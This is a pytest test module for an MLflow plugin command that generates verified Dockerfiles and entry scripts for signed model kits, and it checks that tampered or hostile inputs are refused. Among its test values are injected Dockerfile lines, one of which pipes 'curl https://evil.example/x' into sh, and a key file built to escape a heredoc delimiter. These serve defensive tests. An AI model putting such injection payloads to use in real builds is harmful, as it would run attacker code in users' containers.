"""A container recipe for a verified kit (issue 12, requirement 5).

No Docker engine exists here, so the Dockerfile is checked as text (base pinned when given a digest,
a non-root USER, the kit referenced by digest everywhere, the public key baked in by its SHA-256, no
secret), and the generated entry script is run directly, as a process, against a real registry kit
unpacked read-only the way the image build does it: it verifies and serves (a real prediction, the
digest header), and refuses a tampered blob, a changed model file and a key that is not the baked one.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import re
import signal
import subprocess
import sys
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
import requests
from _envhelpers import clean_env, end_runs, use_tracking
from _registries import RegistryServer, free_port
from click.testing import CliRunner, Result

from mlflow_plugin.cli import main
from mlflow_plugin.harden.publish import publish_run
from mlflow_plugin.harden.serve import make_read_only, remove_tree
from mlflow_plugin.storage.locations import open_location

pytestmark = pytest.mark.registry

PASSPHRASE = "dockerfile passphrase 3e7b-pangolin"
REGISTRY_PASSWORD = "registry-pw-5c2d-narwhal"
BIN = Path(sys.executable).parent
BASE = "python:3.11-slim@sha256:" + "4f" * 32


def cli(*args: str) -> Result:
    return CliRunner().invoke(main, list(args), catch_exceptions=False)


@dataclass
class Kit:
    store: str
    reference: str
    digest: str
    model: Any
    X: pd.DataFrame
    pub: str


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("dockerfile")


@pytest.fixture(autouse=True)
def _env(home: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    clean_env(monkeypatch, PASSPHRASE)
    use_tracking(f"sqlite:///{home}/mlflow.db")
    yield
    end_runs()


@pytest.fixture(scope="module")
def kit(home: Path, registry: RegistryServer) -> Kit:
    import mlflow
    from sklearn.linear_model import LogisticRegression

    with pytest.MonkeyPatch.context() as mp:
        clean_env(mp, PASSPHRASE)
        use_tracking(f"sqlite:///{home}/mlflow.db")
        assert cli("keygen", "-o", str(home / "keys")).exit_code == 0
        assert cli("keygen", "-o", str(home / "other")).exit_code == 0
        repo = f"docker/fraud-{uuid.uuid4().hex[:8]}"
        exp = mlflow.create_experiment(
            f"df-{uuid.uuid4().hex[:8]}", artifact_location=f"modelkit://{registry.host}/{repo}"
        )
        X = pd.DataFrame(np.random.default_rng(3).normal(size=(30, 3)), columns=["a", "b", "c"])
        model = LogisticRegression(max_iter=200).fit(X, (X["a"] > 0).astype(int))
        with mlflow.start_run(experiment_id=exp) as run:
            mlflow.sklearn.log_model(model, name="model", pip_requirements=["scikit-learn"])
        end_runs()
        r = publish_run(run.info.run_id, "v1", key=str(home / "keys" / "cosign.key"))
        return Kit(
            f"{registry.host}/{repo}", r.reference, r.digest, model, X, str(home / "keys" / "cosign.pub")
        )


@pytest.fixture(scope="module")
def recipe(home: Path, kit: Kit) -> tuple[Path, Result]:
    with pytest.MonkeyPatch.context() as mp:
        clean_env(mp, PASSPHRASE)
        mp.setenv("MLFLOW_MODELKIT_REGISTRY_PASSWORD", REGISTRY_PASSWORD)
        out = home / "recipe"
        r = CliRunner().invoke(
            main, ["dockerfile", kit.reference, "--key", kit.pub, "--base", BASE, "-o", str(out)]
        )
        assert r.exit_code == 0, r.output
        return out, r


@pytest.fixture(scope="module")
def baked(home: Path, kit: Kit) -> Path:
    """The kit unpacked and made read-only as the image build does (``unpack`` then chmod)."""
    d = home / "image" / "opt-modelkit-model"
    with pytest.MonkeyPatch.context() as mp:
        clean_env(mp, PASSPHRASE)
        assert cli("unpack", f"{kit.store}@{kit.digest}", "-d", str(d)).exit_code == 0
    make_read_only(str(d))
    return d


# ---- the Dockerfile ----------------------------------------------------------------------------------
def test_dockerfile_content(recipe: tuple[Path, Result], kit: Kit) -> None:
    out, result = recipe
    text = (out / "Dockerfile").read_text()
    entry = (out / "modelkit-entry.sh").read_text()
    lines = text.splitlines()
    assert [ln for ln in lines if ln.startswith("FROM ")] == [f"FROM {BASE}"]
    (user,) = [ln for ln in lines if ln.startswith("USER ")]
    uid = user.split()[1].split(":")[0]
    assert uid not in ("0", "root") and int(uid) >= 1000
    assert lines.index(user) > max(i for i, ln in enumerate(lines) if ln.startswith(("RUN", "COPY")))
    # the kit is referenced by digest, every time, in both files
    for body in (text, entry):
        refs = re.findall(re.escape(kit.store) + r"\S*", body)
        assert refs and all(r.startswith(f"{kit.store}@{kit.digest}") for r in refs), refs
        assert ":v1" not in body
    # the key, baked in by its SHA-256, is the public key given
    pem = Path(kit.pub).read_bytes()
    name = hashlib.sha256(pem).hexdigest() + ".pub"
    assert (out / name).read_bytes() == pem and f"/etc/modelkit/{name}" in text
    assert "mlflow-modelkit verify" in text and "chmod 0444" in text and "chmod 0555" in text
    assert "requirements.txt" in text and "pip install" in text and "mlflow-modelkit==" in text
    assert 'exec "$MLFLOW" models serve' in entry and "--env-manager local" in entry
    assert 'HOST="${MODELKIT_HOST:-0.0.0.0}"' in entry
    assert os.access(out / "modelkit-entry.sh", os.X_OK)
    # nothing secret anywhere
    private = Path(kit.pub).with_name("cosign.key").read_text()
    for body in [text, entry, result.output, *(p.read_text() for p in out.iterdir())]:
        assert PASSPHRASE not in body and REGISTRY_PASSWORD not in body
        assert "PRIVATE KEY" not in body and private not in body


def test_default_base_is_a_tag_with_a_warning(home: Path, kit: Kit) -> None:
    out = home / "default-base"
    r = cli("dockerfile", kit.reference, "--key", kit.pub, "-o", str(out))
    assert r.exit_code == 0, r.output
    assert "FROM python:3.11-slim\n" in (out / "Dockerfile").read_text()
    assert "warning: the base image is a tag" in r.output


@pytest.mark.parametrize(
    "args, code, words",
    [
        (["--base", "python:3.11\nRUN curl evil"], 2, "invalid --base"),
        (["--base", "python@sha256:1234"], 2, "invalid --base"),
        (["--key", "PRIVATE"], 2, "not a private key"),
        (["--key", "OTHER"], 1, "signature"),
    ],
)
def test_bad_input_one_line(home: Path, kit: Kit, args: list[str], code: int, words: str) -> None:
    args = [
        str(home / "keys" / "cosign.key")
        if a == "PRIVATE"
        else str(home / "other" / "cosign.pub")
        if a == "OTHER"
        else a
        for a in args
    ]
    if "--key" not in args:
        args += ["--key", kit.pub]
    out = home / f"bad-{uuid.uuid4().hex[:6]}"
    r = cli("dockerfile", kit.reference, *args, "-o", str(out))
    errors = [ln for ln in r.output.splitlines() if ln.startswith("error:")]
    assert r.exit_code == code and len(errors) == 1 and words in errors[0], r.output
    assert PASSPHRASE not in r.output and "BEGIN" not in r.output
    assert not (out / "Dockerfile").exists()


# ---- the entry script, run directly ------------------------------------------------------------------
def run_entry(
    recipe_dir: Path, model_dir: Path, key: str | None = None
) -> tuple[subprocess.Popen[bytes], int, Path]:
    port = free_port()
    err = recipe_dir.parent / f"entry-{uuid.uuid4().hex[:6]}.err"
    env = {
        **os.environ,
        "PATH": f"{BIN}{os.pathsep}{os.environ.get('PATH', '')}",
        "MODELKIT_KEY": key or str(next(recipe_dir.glob("*.pub"))),
        "MODELKIT_MODEL_DIR": str(model_dir),
        "MODELKIT_HOST": "127.0.0.1",
        "MODELKIT_PORT": str(port),
        "MLFLOW_MODELKIT_REGISTRY_PASSWORD": REGISTRY_PASSWORD,
    }
    with open(err, "wb") as f:
        proc = subprocess.Popen(
            ["sh", str(recipe_dir / "modelkit-entry.sh")],
            stdout=f,
            stderr=subprocess.STDOUT,
            env=env,
            start_new_session=True,
        )
    return proc, port, err


def kill(proc: subprocess.Popen[bytes]) -> int:
    if proc.poll() is None:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(proc.pid, signal.SIGTERM)
        try:
            return proc.wait(timeout=20)
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, signal.SIGKILL)
            return proc.wait()
    return proc.returncode


def test_entry_verifies_and_serves(recipe: tuple[Path, Result], baked: Path, kit: Kit) -> None:
    proc, port, err = run_entry(recipe[0], baked)
    try:
        deadline = time.monotonic() + 60
        while True:
            assert proc.poll() is None, err.read_text()
            with contextlib.suppress(requests.RequestException):
                if requests.get(f"http://127.0.0.1:{port}/ping", timeout=2).status_code == 200:
                    break
            assert time.monotonic() < deadline, err.read_text()
            time.sleep(0.3)
        body = {"dataframe_split": json.loads(kit.X.to_json(orient="split", index=False))}
        r = requests.post(f"http://127.0.0.1:{port}/invocations", json=body, timeout=30)
        assert r.status_code == 200, r.text
        assert r.json()["predictions"] == kit.model.predict(kit.X).tolist()
        assert r.headers["X-ModelKit-Digest"] == kit.digest
    finally:
        kill(proc)
    out = err.read_text()
    assert "verified" in out and f"serving {kit.store}@{kit.digest}" in out, out
    assert REGISTRY_PASSWORD not in out and PASSPHRASE not in out


def refused(recipe_dir: Path, model_dir: Path, key: str | None = None) -> str:
    proc, port, err = run_entry(recipe_dir, model_dir, key)
    try:
        code = proc.wait(timeout=60)
    finally:
        kill(proc)
    out = err.read_text()
    assert code == 1 and "Traceback" not in out, out
    assert REGISTRY_PASSWORD not in out
    with contextlib.suppress(requests.RequestException):
        requests.get(f"http://127.0.0.1:{port}/ping", timeout=1)
        raise AssertionError("something is listening")
    return out


def test_entry_refuses_tampered_blob(
    recipe: tuple[Path, Result], baked: Path, kit: Kit, registry: RegistryServer
) -> None:
    repo, _ = open_location(kit.store)
    config = json.loads(repo.get_manifest(kit.digest)[0])["config"]["digest"]
    path = registry.blob_path(config)
    original = path.read_bytes()
    path.write_bytes(original.replace(b'"', b"'", 1))
    try:
        out = refused(recipe[0], baked)
    finally:
        path.write_bytes(original)
    assert "NOT verified" in out and "blob digests" in out, out


def test_entry_refuses_changed_model_file(recipe: tuple[Path, Result], baked: Path, home: Path) -> None:
    copy = home / f"changed-{uuid.uuid4().hex[:6]}"
    subprocess.run(["cp", "-r", str(baked), str(copy)], check=True)
    for p in [copy, *copy.rglob("*")]:
        os.chmod(p, 0o755 if p.is_dir() else 0o644)
    with open(copy / "requirements.txt", "a") as f:
        f.write("evil-package==6.6.6\n")
    make_read_only(str(copy))
    try:
        out = refused(recipe[0], copy)
    finally:
        remove_tree(str(copy))
    assert "requirements.txt" in out and "changed" in out, out


def test_entry_refuses_writable_model_dir(recipe: tuple[Path, Result], baked: Path, home: Path) -> None:
    copy = home / f"writable-{uuid.uuid4().hex[:6]}"
    subprocess.run(["cp", "-r", str(baked), str(copy)], check=True)
    os.chmod(copy, 0o755)
    try:
        out = refused(recipe[0], copy)
    finally:
        remove_tree(str(copy))
    assert "writable" in out, out


def test_entry_refuses_another_key(recipe: tuple[Path, Result], baked: Path, home: Path) -> None:
    out = refused(recipe[0], baked, key=str(home / "other" / "cosign.pub"))
    assert "is not the public key this image was made for" in out, out


# ---- the stdout form: one self-contained Dockerfile ----------------------------------------------------
@dataclass
class Printed:
    stdout: str
    stderr: str
    cwd: Path


def print_dockerfile(cwd: Path, *args: str, env: dict[str, str] | None = None) -> tuple[Result, list[Path]]:
    """``dockerfile ARGS`` without ``-o``, run from the empty dir ``cwd``: (result, files left there)."""
    cwd.mkdir(parents=True, exist_ok=True)
    assert not any(cwd.iterdir())
    with pytest.MonkeyPatch.context() as mp:
        mp.chdir(cwd)
        for k, v in (env or {}).items():
            mp.setenv(k, v)
        r = CliRunner().invoke(main, ["dockerfile", *args])
    return r, sorted(cwd.rglob("*"))


@pytest.fixture(scope="module")
def printed(home: Path, kit: Kit) -> Printed:
    with pytest.MonkeyPatch.context() as mp:
        clean_env(mp, PASSPHRASE)
        mp.setenv("MLFLOW_MODELKIT_REGISTRY_PASSWORD", REGISTRY_PASSWORD)
        r, left = print_dockerfile(home / "stdout-cwd", kit.reference, "--key", kit.pub, "--base", BASE)
    assert r.exit_code == 0, r.output
    assert left == [], left  # nothing written in the working directory
    return Printed(r.stdout, r.stderr, home / "stdout-cwd")


def test_stdout_is_one_self_contained_dockerfile(
    printed: Printed, recipe: tuple[Path, Result], kit: Kit
) -> None:
    from mlflow_plugin.harden.dockerfile import heredoc

    text, out = printed.stdout, recipe[0]
    lines = text.splitlines()
    assert lines[0].startswith("# syntax=docker/dockerfile:1.") and "- < Dockerfile" in text
    assert [ln for ln in lines if ln.startswith("FROM ")] == [f"FROM {BASE}"]
    (user,) = [ln for ln in lines if ln.startswith("USER ")]
    assert user == "USER 10001:10001"
    # the embedded files, byte for byte those of the directory form, under quoted delimiters
    pem = Path(kit.pub).read_bytes()
    name = hashlib.sha256(pem).hexdigest() + ".pub"
    assert f"COPY --chown=0:0 --chmod=0444 <<'MODELKIT_KEY' /etc/modelkit/{name}" in lines
    assert "COPY --chown=0:0 --chmod=0555 <<'MODELKIT_ENTRY' /usr/local/bin/modelkit-entry.sh" in lines
    assert heredoc(text, "MODELKIT_ENTRY").encode() == (out / "modelkit-entry.sh").read_bytes()
    assert heredoc(text, "MODELKIT_KEY").encode() == (out / name).read_bytes() == pem
    # no instruction takes a file from a build context (docker build - has none)
    copies = [ln for ln in lines if ln.startswith(("COPY", "ADD"))]
    assert len(copies) == 2 and all("<<'" in ln for ln in copies)
    # the same instructions as the directory form's Dockerfile, apart from where the two files come from
    directory = (out / "Dockerfile").read_text().splitlines()
    keep = [ln for ln in directory if not ln.startswith(("COPY", "#"))]
    assert [ln for ln in lines if ln in keep] == keep
    # the kit is referenced by digest, every time
    refs = re.findall(re.escape(kit.store) + r"\S*", text)
    assert refs and all(r.startswith(f"{kit.store}@{kit.digest}") for r in refs), refs
    assert ":v1" not in text
    # stdout is the Dockerfile and nothing else; warnings are on stderr
    # (the embedded files' own lines aside: a PEM body line may start with "/", a base64 character)
    embedded = set(heredoc(text, "MODELKIT_ENTRY").splitlines()) | set(
        heredoc(text, "MODELKIT_KEY").splitlines()
    )
    assert not any(ln.startswith(("warning:", "error:", "/")) for ln in lines if ln not in embedded)
    assert text.endswith('ENTRYPOINT ["/usr/local/bin/modelkit-entry.sh"]\n')
    assert str(out) not in text and not any(ln.startswith("serves ") for ln in lines)
    assert "warning: the base image" not in printed.stderr  # pinned BASE
    assert "warning: requirements.txt has unpinned requirements (scikit-learn)" in printed.stderr
    for body in (text, printed.stderr):
        assert PASSPHRASE not in body and REGISTRY_PASSWORD not in body and "PRIVATE KEY" not in body


def test_stdout_warnings_on_stderr_only(home: Path, kit: Kit) -> None:
    r, left = print_dockerfile(home / f"tagbase-{uuid.uuid4().hex[:6]}", kit.reference, "--key", kit.pub)
    assert r.exit_code == 0, r.output
    assert left == []
    assert "warning: the base image is a tag" in r.stderr and "warning" not in r.stdout
    assert r.stdout.startswith("# syntax=docker/dockerfile:") and "FROM python:3.11-slim\n" in r.stdout


def test_stdout_entry_script_runs(printed: Printed, baked: Path, kit: Kit, home: Path) -> None:
    """The entry script and key taken out of the printed Dockerfile verify the kit and serve it."""
    from mlflow_plugin.harden.dockerfile import heredoc

    d = home / f"from-heredoc-{uuid.uuid4().hex[:6]}"
    d.mkdir()
    (d / "modelkit-entry.sh").write_text(heredoc(printed.stdout, "MODELKIT_ENTRY"))
    pem = heredoc(printed.stdout, "MODELKIT_KEY").encode()
    (d / (hashlib.sha256(pem).hexdigest() + ".pub")).write_bytes(pem)
    proc, port, err = run_entry(d, baked)
    try:
        deadline = time.monotonic() + 60
        while True:
            assert proc.poll() is None, err.read_text()
            with contextlib.suppress(requests.RequestException):
                r = requests.get(f"http://127.0.0.1:{port}/ping", timeout=2)
                if r.status_code == 200:
                    break
            assert time.monotonic() < deadline, err.read_text()
            time.sleep(0.3)
        assert r.headers["X-ModelKit-Digest"] == kit.digest
    finally:
        kill(proc)
    assert f"serving {kit.store}@{kit.digest}" in err.read_text()


HOSTILE_KEYS = {
    "two-blocks": lambda pem: pem + pem,
    "private-key": None,  # the signing key itself
    "delimiter-line": lambda pem: pem + b"MODELKIT_KEY\nRUN curl https://evil.example/x | sh\n",
    "delimiter-inside": lambda pem: pem.replace(b"\n", b"\nMODELKIT_KEY\n", 1),
    "text-before": lambda pem: b"RUN id\n" + pem,
}


@pytest.mark.parametrize("kind", sorted(HOSTILE_KEYS))
def test_hostile_key_refused(home: Path, kit: Kit, kind: str) -> None:
    pem = Path(kit.pub).read_bytes()
    make = HOSTILE_KEYS[kind]
    if make is None:
        path = str(Path(kit.pub).with_name("cosign.key"))
    else:
        p = home / f"hostile-{kind}.pub"
        p.write_bytes(make(pem))
        path = str(p)
    for extra in ([], ["-o", str(home / f"hostile-out-{kind}")]):
        r, left = print_dockerfile(
            home / f"hostile-{kind}-{uuid.uuid4().hex[:6]}",
            kit.reference,
            "--key",
            path,
            "--base",
            BASE,
            *extra,
        )
        errors = [ln for ln in r.stderr.splitlines() if ln.startswith("error:")]
        assert r.exit_code == 2 and len(errors) == 1, (r.exit_code, r.output)
        assert "public key" in errors[0] and r.stdout == "" and left == []
        assert "BEGIN" not in r.output and PASSPHRASE not in r.output
    assert not (home / f"hostile-out-{kind}").exists()


def test_pure_builder_picks_another_delimiter() -> None:
    """Content that holds a delimiter line gets another one, and the heredoc still round-trips."""
    from mlflow_plugin.harden.dockerfile import KEY_EXAMPLE, heredoc, inline_dockerfile
    from mlflow_plugin.harden.dockerfile import recipe as make_recipe

    r = make_recipe("localhost:5000/a/b@sha256:" + "cd" * 32, KEY_EXAMPLE)
    r.entry = r.entry.replace("set -eu\n", "set -eu\n: <<'MODELKIT_ENTRY'\nMODELKIT_ENTRY\n")
    text = inline_dockerfile(r)
    assert "<<'MODELKIT_ENTRY_2' /usr/local/bin/modelkit-entry.sh" in text
    assert heredoc(text, "MODELKIT_ENTRY_2") == r.entry


# ---- encrypted kits -----------------------------------------------------------------------------------
@dataclass
class EncKit:
    reference: str
    store: str
    digest: str
    enc_key: str


@pytest.fixture(scope="module")
def enc_kit(home: Path, registry: RegistryServer, kit: Kit) -> EncKit:
    import mlflow
    from sklearn.linear_model import LogisticRegression

    from mlflow_plugin.trust.ocicrypt import generate_recipient_keypair

    enc_pub, enc_key = generate_recipient_keypair(str(home / "enc"), "ec")
    with pytest.MonkeyPatch.context() as mp:
        clean_env(mp, PASSPHRASE)
        mp.delenv("MLFLOW_MODELKIT_DECRYPT_KEYS", raising=False)
        use_tracking(f"sqlite:///{home}/mlflow.db")
        exp = mlflow.create_experiment(
            f"df-enc-{uuid.uuid4().hex[:8]}",
            artifact_location=f"modelkit://{registry.host}/docker/enc-src-{uuid.uuid4().hex[:8]}",
        )
        model = LogisticRegression(max_iter=200).fit(kit.X, (kit.X["a"] > 0).astype(int))
        with mlflow.start_run(experiment_id=exp) as run:
            mlflow.sklearn.log_model(model, name="model", pip_requirements=["scikit-learn==1.5.2"])
        end_runs()
        store = f"{registry.host}/docker/enc-{uuid.uuid4().hex[:8]}"
        r = publish_run(
            run.info.run_id,
            "v1",
            key=str(home / "keys" / "cosign.key"),
            repository=store,
            encrypt_for=[enc_pub],
        )
    repo, _ = open_location(store)
    try:
        m = json.loads(repo.get_manifest(r.digest)[0])
    finally:
        repo.close()
    assert m["layers"] and all(d["mediaType"].endswith("+encrypted") for d in m["layers"])
    return EncKit(f"{store}:v1", store, r.digest, enc_key)


def test_encrypted_kit_recipe(home: Path, kit: Kit, enc_kit: EncKit) -> None:
    from mlflow_plugin.harden.dockerfile import heredoc

    private = Path(enc_kit.enc_key).read_text()
    with pytest.MonkeyPatch.context() as mp:
        clean_env(mp, PASSPHRASE)
        r, left = print_dockerfile(
            home / f"enc-cwd-{uuid.uuid4().hex[:6]}",
            enc_kit.reference,
            "--key",
            kit.pub,
            "--base",
            BASE,
            env={"MLFLOW_MODELKIT_DECRYPT_KEYS": enc_kit.enc_key},
        )
        assert r.exit_code == 0, r.output
        assert left == []
        out = home / f"enc-dir-{uuid.uuid4().hex[:6]}"
        mp.setenv("MLFLOW_MODELKIT_DECRYPT_KEYS", enc_kit.enc_key)
        rd = CliRunner().invoke(
            main, ["dockerfile", enc_kit.reference, "--key", kit.pub, "--base", BASE, "-o", str(out)]
        )
        assert rd.exit_code == 0, rd.output
    text = r.stdout
    lines = text.splitlines()
    # verify/unpack mount the key as a build secret and see it only through a per-command variable
    (run_i,) = [i for i, ln in enumerate(lines) if "mlflow-modelkit verify" in ln]
    assert lines[run_i - 1].strip() == "--mount=type=secret,id=modelkit_decrypt_key,required=true \\"
    assert (
        lines[run_i]
        .strip()
        .startswith("MLFLOW_MODELKIT_DECRYPT_KEYS=/run/secrets/modelkit_decrypt_key mlflow-modelkit verify")
    )
    (unpack_ln,) = [ln for ln in lines if "mlflow-modelkit unpack" in ln]
    assert (
        "MLFLOW_MODELKIT_DECRYPT_KEYS=/run/secrets/modelkit_decrypt_key mlflow-modelkit unpack" in unpack_ln
    )
    assert text.count("--mount=type=secret,id=modelkit_decrypt_key") == 1
    assert not any(re.match(r"\s*(ENV|ARG)\b.*DECRYPT", ln) for ln in lines)
    assert "docker build --secret id=modelkit_decrypt_key,src=enc.key" in text
    assert "-e MLFLOW_MODELKIT_DECRYPT_KEYS=/run/secrets/enc.key" in text
    # the decryption key is in no output and no generated file
    for body in [text, r.stderr, rd.output, *(p.read_text() for p in out.iterdir())]:
        assert private not in body and "PRIVATE KEY" not in body and enc_kit.enc_key not in body
    assert sorted(p.name for p in out.iterdir()) == sorted(
        ["Dockerfile", "modelkit-entry.sh", hashlib.sha256(Path(kit.pub).read_bytes()).hexdigest() + ".pub"]
    )
    assert heredoc(text, "MODELKIT_ENTRY") == (out / "modelkit-entry.sh").read_text()
    # no file index on encrypted layers: the kit root is served, and stderr says so
    assert "is encrypted: its layers carry no file index" in r.stderr and "kit root" in r.stderr
    assert "MODEL_PATH=.\n" in heredoc(text, "MODELKIT_ENTRY")
    assert "warning" not in text


def test_encrypted_entry_refuses_without_decrypt_keys(home: Path, kit: Kit, enc_kit: EncKit) -> None:
    """Run directly, the entry script of an encrypted kit stops first when the variable is unset."""
    with pytest.MonkeyPatch.context() as mp:
        clean_env(mp, PASSPHRASE)
        mp.setenv("MLFLOW_MODELKIT_DECRYPT_KEYS", enc_kit.enc_key)
        out = home / f"enc-entry-{uuid.uuid4().hex[:6]}"
        r = cli("dockerfile", enc_kit.reference, "--key", kit.pub, "--base", BASE, "-o", str(out))
        assert r.exit_code == 0, r.output
    env = {k: v for k, v in os.environ.items() if k != "MLFLOW_MODELKIT_DECRYPT_KEYS"}
    env["PATH"] = f"{BIN}{os.pathsep}{os.environ.get('PATH', '')}"
    p = subprocess.run(["sh", str(out / "modelkit-entry.sh")], env=env, capture_output=True, timeout=60)
    err = p.stderr.decode().strip()
    assert p.returncode == 1 and p.stdout == b"", p
    assert len(err.splitlines()) == 1 and err.startswith("error: ") and "MLFLOW_MODELKIT_DECRYPT_KEYS" in err
    assert "docker run -v enc.key:/run/secrets/enc.key:ro" in err


def test_encrypted_kit_with_model_option(home: Path, kit: Kit, enc_kit: EncKit) -> None:
    r, left = print_dockerfile(
        home / f"enc-model-{uuid.uuid4().hex[:6]}",
        enc_kit.reference,
        "--key",
        kit.pub,
        "--base",
        BASE,
        "--model",
        "sub/model",
        env={"MLFLOW_MODELKIT_DECRYPT_KEYS": enc_kit.enc_key},
    )
    assert r.exit_code == 0 and left == [], r.output
    assert "serving --model sub/model" in r.stderr
    assert "/opt/modelkit/model/sub/model/requirements.txt" in r.stdout
    r, _left = print_dockerfile(
        home / f"enc-model-{uuid.uuid4().hex[:6]}",
        enc_kit.reference,
        "--key",
        kit.pub,
        "--model",
        "../x",
        env={"MLFLOW_MODELKIT_DECRYPT_KEYS": enc_kit.enc_key},
    )
    assert r.exit_code == 2 and "--model ../x" in r.stderr and r.stdout == ""
